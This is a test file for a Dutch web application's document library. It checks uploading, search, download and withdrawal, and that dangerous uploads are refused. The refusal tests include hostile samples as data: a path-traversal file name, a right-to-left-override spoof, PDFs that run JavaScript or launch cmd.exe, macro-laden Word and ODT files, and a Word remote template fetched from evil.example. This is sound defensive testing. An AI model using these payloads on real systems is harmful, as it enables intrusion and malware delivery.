// The knowledge library (docs/design.md §10): publishing a file whose type is read from its bytes,
// searching with Dutch stemming, downloading as an attachment that counts, withdrawing; and bad
// uploads refused with the field named and nothing written.
import { createHash, randomBytes } from 'node:crypto';
import { schema } from '@duidingspool/db';
import { KNOWLEDGE_FILE_PART_BYTES, MAX_KNOWLEDGE_FILE_BYTES } from '@duidingspool/shared';
import { eq, sql } from 'drizzle-orm';
import { zipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { expectProblem, MINIMAL_PDF, multipartBody, pointers, publishKnowledge, uniquePdf } from './fixtures.ts';
import { type Caller, useTestApp } from './harness.ts';

const t = useTestApp();
let coordinator: Caller;
let specialist: Caller;
let requester: Caller;
let finance: Caller;

/** Rows in the library's tables: a refused upload must leave all three as they were. */
async function counts() {
  const n = sql<number>`count(*)::int`;
  const db = t.handle.db;
  return {
    products: (await db.select({ n }).from(schema.knowledgeProducts))[0]?.n,
    files: (await db.select({ n }).from(schema.knowledgeFiles))[0]?.n,
    areas: (await db.select({ n }).from(schema.knowledgeProductExpertiseAreas))[0]?.n,
  };
}

const enc = (text: string) => new TextEncoder().encode(text);

/** An OpenDocument text: a zip whose first entry is the uncompressed `mimetype`; `extra` entries added. */
const odt = (extra: Record<string, string> = {}) =>
  Buffer.from(
    zipSync({
      mimetype: [enc('application/vnd.oasis.opendocument.text'), { level: 0 }],
      'content.xml': enc('<office:document-content/>'),
      ...Object.fromEntries(Object.entries(extra).map(([name, text]) => [name, enc(text)])),
    }),
  );

/** A Word document (DOCX) with `extra` entries, e.g. a macro project or a relationship part. */
const docx = (extra: Record<string, string> = {}) =>
  Buffer.from(
    zipSync({
      '[Content_Types].xml': enc(
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      ),
      '_rels/.rels': enc('<Relationships/>'),
      'word/document.xml': enc('<w:document/>'),
      ...Object.fromEntries(Object.entries(extra).map(([name, text]) => [name, enc(text)])),
    }),
  );

/** A relationship part with one relationship of `type` to `target`, external when asked. */
const rels = (type: string, target: string, external: boolean) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${external ? ' TargetMode="External"' : ''}/></Relationships>`;

/** A PDF with `body` between its header and its end marker. */
const pdfWith = (body: string) => Buffer.from(`%PDF-1.7\n${body}\ntrailer<</Root 1 0 R>>\n%%EOF\n`, 'latin1');

beforeAll(async () => {
  coordinator = await t.as('coordinator');
  specialist = await t.as('specialist1');
  requester = await t.as('requester.arnhem');
  finance = await t.as('finance');
});

describe('publishing', () => {
  it('a specialist publishes a PDF: format from its bytes, name and hash kept, found by every role', async () => {
    const res = await publishKnowledge(specialist, {
      fields: {
        title: 'Analyse van het extreemrechtse landschap in Oost-Nederland',
        summary: 'Netwerken, online kanalen en signalen voor gemeenten.',
        audiences: ['municipal-officials', 'police'],
        expertiseAreaCodes: ['right-wing-extremism', 'online-radicalisation'],
      },
      file: { name: 'analyse extreemrechts.pdf', bytes: MINIMAL_PDF },
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({
      format: 'pdf',
      fileName: 'analyse extreemrechts.pdf',
      sizeBytes: MINIMAL_PDF.length,
      sha256: createHash('sha256').update(MINIMAL_PDF).digest('hex'),
      audiences: ['municipal-officials', 'police'],
      expertiseAreaCodes: ['online-radicalisation', 'right-wing-extremism'],
      downloads: 0,
      allowedActions: ['withdraw'],
    });
    for (const caller of [coordinator, requester, finance]) {
      const one = await caller('GET', `/api/v1/knowledge-products/${res.body.id}`);
      expect(one.status).toBe(200);
    }
    // The coordinator may withdraw anyone's product; a requester only reads.
    expect((await coordinator('GET', `/api/v1/knowledge-products/${res.body.id}`)).body.allowedActions).toEqual(['withdraw']);
    expect((await requester('GET', `/api/v1/knowledge-products/${res.body.id}`)).body.allowedActions).toEqual([]);
  });

  it('an ODT renamed .pdf is stored and served as what it is: ODT, with the extension .odt', async () => {
    const res = await publishKnowledge(coordinator, { file: { name: 'handreiking.pdf', bytes: odt() } });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({ format: 'odt', fileName: 'handreiking.odt' });
  });

  // The saved file always carries the extension of the format read from its bytes, so it opens as
  // what it is (a PDF named .html would otherwise open in a browser from disk).
  it.each([
    ['  Training:  deel 1?.pdf ', 'Training_ deel 1_.pdf'],
    ['handreiking.html', 'handreiking.pdf'],
    ['x.pdf.exe', 'x.pdf.pdf'],
    ['notitie', 'notitie.pdf'],
    ['.pdf', 'bestand.pdf'],
    ['x.pdf.', 'x.pdf'],
    ['CON.pdf', '_CON.pdf'],
    ['Ｆａｃｔｓｈｅｅｔ.pdf', 'Factsheet.pdf'],
  ])('the file name %j is served as %j', async (sent, served) => {
    const res = await publishKnowledge(coordinator, { file: { name: sent, bytes: uniquePdf() } });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body.fileName).toBe(served);
  });

  it('a Word document with ordinary hyperlinks is accepted', async () => {
    const res = await publishKnowledge(coordinator, {
      file: { name: 'links.docx', bytes: docx({ 'word/_rels/document.xml.rels': rels('hyperlink', 'https://www.nctv.nl', true) }) },
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body.format).toBe('docx');
  });
});

describe('bad uploads are refused with the field named, and nothing is written', () => {
  const cases: { name: string; send: () => ReturnType<typeof publishKnowledge>; status: number; type: string; pointer: string }[] = [
    {
      name: 'an executable renamed .pdf',
      send: () => publishKnowledge(specialist, { file: { name: 'rapport.pdf', bytes: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(510, 0x90)]) } }),
      status: 415,
      type: 'unsupported-media-type',
      pointer: '/file',
    },
    {
      name: 'plain text renamed .docx',
      send: () => publishKnowledge(specialist, { file: { name: 'notities.docx', bytes: Buffer.from('gewoon tekst, geen document') } }),
      status: 415,
      type: 'unsupported-media-type',
      pointer: '/file',
    },
    {
      name: 'a path in the file name',
      send: () => publishKnowledge(specialist, { file: { name: '../../etc/passwd.pdf', bytes: uniquePdf() } }),
      status: 400,
      type: 'validation-failed',
      pointer: '/file',
    },
    {
      name: 'a right-to-left override in the file name (shows "jafdp.exe")',
      send: () => publishKnowledge(specialist, { file: { name: 'ja\u202Eexe.pdf', bytes: uniquePdf() } }),
      status: 400,
      type: 'validation-failed',
      pointer: '/file',
    },
    {
      name: 'a zero-width space in the file name',
      send: () => publishKnowledge(specialist, { file: { name: 'rap\u200Bport.pdf', bytes: uniquePdf() } }),
      status: 400,
      type: 'validation-failed',
      pointer: '/file',
    },
    {
      name: 'an e-mail address in the file name',
      send: () => publishKnowledge(specialist, { file: { name: 'jan.jansen@example.nl.pdf', bytes: uniquePdf() } }),
      status: 422,
      type: 'personal-data-detected',
      pointer: '/file',
    },
    {
      name: 'a PDF cut off before its end',
      send: () => publishKnowledge(specialist, { file: { name: 'half.pdf', bytes: uniquePdf().subarray(0, 60) } }),
      status: 400,
      type: 'validation-failed',
      pointer: '/file',
    },
    {
      name: 'a PDF with JavaScript (name written with #-escapes)',
      send: () =>
        publishKnowledge(specialist, { file: { name: 'js.pdf', bytes: pdfWith('1 0 obj<</OpenAction<</S/J#61vaScript/JS(app.alert(1))>>>>endobj') } }),
      status: 415,
      type: 'unsupported-media-type',
      pointer: '/file',
    },
    {
      name: 'a PDF that launches a program',
      send: () => publishKnowledge(specialist, { file: { name: 'launch.pdf', bytes: pdfWith('1 0 obj<</S/Launch/F(cmd.exe)>>endobj') } }),
      status: 415,
      type: 'unsupported-media-type',
      pointer: '/file',
    },
    {
      name: 'a Word document with a macro project',
      send: () => publishKnowledge(specialist, { file: { name: 'macro.docx', bytes: docx({ 'word/vbaProject.bin': 'VBA' }) } }),
      status: 415,
      type: 'unsupported-media-type',
      pointer: '/file',
    },
    {
      name: 'a Word document with an embedded object',
      send: () => publishKnowledge(specialist, { file: { name: 'ole.docx', bytes: docx({ 'word/embeddings/oleObject1.bin': 'OLE' }) } }),
      status: 415,
      type: 'unsupported-media-type',
      pointer: '/file',
    },
    {
      name: 'a Word document with a template on the internet',
      send: () =>
        publishKnowledge(specialist, {
          file: { name: 'sjabloon.docx', bytes: docx({ 'word/_rels/settings.xml.rels': rels('attachedTemplate', 'http://evil.example/t.dotm', true) }) },
        }),
      status: 415,
      type: 'unsupported-media-type',
      pointer: '/file',
    },
    {
      name: 'an OpenDocument text with Basic macros',
      send: () => publishKnowledge(specialist, { file: { name: 'macro.odt', bytes: odt({ 'Basic/Standard/Module1.xml': '<script/>' }) } }),
      status: 415,
      type: 'unsupported-media-type',
      pointer: '/file',
    },
    {
      name: 'a control character in the file name',
      send: () => publishKnowledge(specialist, { file: { name: 'rapport\u0007.pdf', bytes: uniquePdf() } }),
      status: 400,
      type: 'validation-failed',
      pointer: '/file',
    },
    {
      name: 'an empty file',
      send: () => publishKnowledge(specialist, { file: { name: 'leeg.pdf', bytes: Buffer.alloc(0) } }),
      status: 400,
      type: 'validation-failed',
      pointer: '/file',
    },
    {
      name: 'a file one byte over 20 MB',
      send: () =>
        publishKnowledge(specialist, {
          file: { name: 'groot.pdf', bytes: Buffer.concat([MINIMAL_PDF, Buffer.alloc(MAX_KNOWLEDGE_FILE_BYTES + 1 - MINIMAL_PDF.length, 0x20)]) },
        }),
      status: 413,
      type: 'payload-too-large',
      pointer: '/file',
    },
    {
      name: 'no audience',
      send: () => publishKnowledge(specialist, { fields: { audiences: [] } }),
      status: 400,
      type: 'validation-failed',
      pointer: '/audiences',
    },
    {
      name: 'an unknown audience',
      send: () => publishKnowledge(specialist, { fields: { audiences: ['iedereen'] } }),
      status: 400,
      type: 'validation-failed',
      pointer: '/audiences/0',
    },
    {
      name: 'an unknown expertise area',
      send: () => publishKnowledge(specialist, { fields: { expertiseAreaCodes: ['astrologie'] } }),
      status: 400,
      type: 'validation-failed',
      pointer: '/expertiseAreaCodes',
    },
    {
      name: 'a phone number in the summary',
      send: () => publishKnowledge(specialist, { fields: { summary: 'Bel de auteur op 06-12345678 voor vragen.' } }),
      status: 422,
      type: 'personal-data-detected',
      pointer: '/summary',
    },
    {
      name: 'an unknown field',
      send: () => publishKnowledge(specialist, { fields: { caseReference: 'ZVH-123' } }),
      status: 400,
      type: 'validation-failed',
      pointer: '/caseReference',
    },
    {
      name: 'no file at all',
      send: async () => {
        const { payload, headers } = await multipartBody({ title: 'Zonder bestand', summary: 'Geen bestand.', audiences: ['police'] });
        return specialist('POST', '/api/v1/knowledge-products', payload, headers);
      },
      status: 400,
      type: 'validation-failed',
      pointer: '/file',
    },
  ];
  for (const c of cases) {
    it(c.name, async () => {
      const before = await counts();
      const res = await c.send();
      expectProblem(res, c.status, c.type);
      expect(pointers(res)).toContain(c.pointer);
      expect(await counts()).toEqual(before);
    });
  }

  it('JSON instead of a form: 415', async () => {
    const res = await specialist('POST', '/api/v1/knowledge-products', { title: 'x', summary: 'y', audiences: ['police'] });
    expectProblem(res, 415, 'unsupported-media-type');
  });

  it('a url-encoded form: 415 that asks for multipart/form-data', async () => {
    const res = await specialist('POST', '/api/v1/knowledge-products', 'title=x', { 'content-type': 'application/x-www-form-urlencoded' });
    expectProblem(res, 415, 'unsupported-media-type');
    expect(res.body.detail).toContain('multipart/form-data');
  });

  it('multipart elsewhere in the API stays refused: 415', async () => {
    const { payload, headers } = await multipartBody({ status: 'closed' });
    const res = await coordinator('POST', '/api/v1/budgets', payload, headers);
    expectProblem(res, 415, 'unsupported-media-type');
  });
});

describe('one file once', () => {
  it('the same file again is refused naming where it is; of two at once exactly one is published', async () => {
    const bytes = uniquePdf();
    const first = await publishKnowledge(specialist, { fields: { title: 'Eerste keer' }, file: { name: 'een.pdf', bytes } });
    expect(first.status).toBe(201);
    const again = await publishKnowledge(coordinator, { fields: { title: 'Tweede keer' }, file: { name: 'twee.pdf', bytes } });
    expectProblem(again, 409, 'conflict');
    expect(again.body.detail).toContain('Eerste keer');
    const other = uniquePdf();
    const both = await Promise.all(
      [1, 2].map((n) => publishKnowledge(coordinator, { fields: { title: `Tegelijk ${n}` }, file: { name: 'x.pdf', bytes: other } })),
    );
    expect(both.map((r) => r.status).sort()).toEqual([201, 409]);
    // Withdrawn, the file may be published again.
    expect((await specialist('DELETE', `/api/v1/knowledge-products/${first.body.id}`)).status).toBe(204);
    expect((await publishKnowledge(specialist, { file: { name: 'een.pdf', bytes } })).status).toBe(201);
  });
});

describe('searching', () => {
  it('finds by a word in another form (Dutch stemming), by expertise area, audience and format; withdrawn products disappear', async () => {
    const made = await publishKnowledge(coordinator, {
      fields: {
        title: 'Lesmateriaal over radicalisering voor docenten',
        summary: 'Werkvormen voor de klas.',
        audiences: ['education'],
        expertiseAreaCodes: ['polarisation'],
      },
    });
    expect(made.status).toBe(201);
    const ids = async (query: string) => ((await requester('GET', `/api/v1/knowledge-products?${query}`)).body.items as { id: string }[]).map((p) => p.id);
    expect(await ids(`q=${encodeURIComponent('radicaliseringen docent')}`)).toContain(made.body.id);
    expect(await ids('q=extreemrechts')).not.toContain(made.body.id);
    // The start of a word finds it, full-width letters too.
    expect(await ids(`q=${encodeURIComponent('lesmat')}`)).toContain(made.body.id);
    expect(await ids(`q=${encodeURIComponent('ｄｏｃｅｎｔ')}`)).toContain(made.body.id);
    expect(await ids('expertiseAreaCode=polarisation')).toContain(made.body.id);
    expect(await ids('expertiseAreaCode=jihadism')).not.toContain(made.body.id);
    expect(await ids('audience=education')).toContain(made.body.id);
    expect(await ids('audience=police')).not.toContain(made.body.id);
    expect(await ids('format=pdf')).toContain(made.body.id);
    expect(await ids('format=docx')).not.toContain(made.body.id);
    // Any text is a valid search: operators and quotes never give a syntax error.
    expect((await requester('GET', `/api/v1/knowledge-products?q=${encodeURIComponent('"docent OR -(&|!:*')}`)).status).toBe(200);

    expect((await coordinator('DELETE', `/api/v1/knowledge-products/${made.body.id}`)).status).toBe(204);
    expect(await ids('audience=education')).not.toContain(made.body.id);
    expect((await requester('GET', `/api/v1/knowledge-products/${made.body.id}`)).status).toBe(404);
    expect((await requester('GET', `/api/v1/knowledge-products/${made.body.id}/file`)).status).toBe(404);
  });
});

describe('downloading', () => {
  it('serves the published bytes as an attachment that cannot run in the browser, and counts it', async () => {
    const made = await publishKnowledge(specialist, { file: { name: 'Analyse – polarisatie.pdf', bytes: uniquePdf() } });
    expect(made.status).toBe(201);
    // A HEAD request is not a download.
    expect((await requester('HEAD', `/api/v1/knowledge-products/${made.body.id}/file`)).status).toBe(200);
    const res = await t.app.inject({ method: 'GET', url: `/api/v1/knowledge-products/${made.body.id}/file`, headers: { cookie: requester.cookie } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="Analyse ? polarisatie.pdf"; filename*=UTF-8''Analyse%20%E2%80%93%20polarisatie.pdf`);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.rawPayload.subarray(0, 9).toString('latin1')).toBe('%PDF-1.4\n');
    expect((await requester('GET', `/api/v1/knowledge-products/${made.body.id}`)).body.downloads).toBe(1);
  });

  it('a file larger than one stored part is kept in parts and served whole, byte for byte', async () => {
    // Two and a half parts: a random hex body (no PDF names in it) between a PDF's header and end.
    const size = Math.floor(KNOWLEDGE_FILE_PART_BYTES * 2.5);
    const body = randomBytes(size / 2).toString('hex');
    const bytes = Buffer.concat([Buffer.from('%PDF-1.4\n%', 'latin1'), Buffer.from(body, 'latin1'), MINIMAL_PDF.subarray(8)]);
    const made = await publishKnowledge(specialist, { file: { name: 'groot.pdf', bytes } });
    expect(made.status, JSON.stringify(made.body)).toBe(201);
    const parts = await t.handle.db
      .select({ part: schema.knowledgeFiles.part })
      .from(schema.knowledgeFiles)
      .where(eq(schema.knowledgeFiles.productId, made.body.id));
    expect(parts.map((p) => p.part).sort((a, b) => a - b)).toEqual(Array.from({ length: Math.ceil(bytes.length / KNOWLEDGE_FILE_PART_BYTES) }, (_, i) => i));
    const res = await t.app.inject({ method: 'GET', url: `/api/v1/knowledge-products/${made.body.id}/file`, headers: { cookie: requester.cookie } });
    expect(res.statusCode).toBe(200);
    expect(createHash('sha256').update(res.rawPayload).digest('hex')).toBe(createHash('sha256').update(bytes).digest('hex'));
  });
});

describe('withdrawing', () => {
  it('only the publisher or a coordinator; the file is gone, the record stays', async () => {
    const made = await publishKnowledge(specialist);
    const other = await t.as('specialist2');
    expectProblem(await other('DELETE', `/api/v1/knowledge-products/${made.body.id}`), 403, 'forbidden');
    expectProblem(await requester('DELETE', `/api/v1/knowledge-products/${made.body.id}`), 403, 'forbidden');
    expect((await specialist('DELETE', `/api/v1/knowledge-products/${made.body.id}`)).status).toBe(204);
    expectProblem(await specialist('DELETE', `/api/v1/knowledge-products/${made.body.id}`), 404, 'not-found');
    const [kept] = await t.handle.db.select().from(schema.knowledgeProducts).where(eq(schema.knowledgeProducts.id, made.body.id));
    expect(kept?.withdrawnAt).toBeInstanceOf(Date);
    expect(await t.handle.db.select().from(schema.knowledgeFiles).where(eq(schema.knowledgeFiles.productId, made.body.id))).toEqual([]);
  });
});
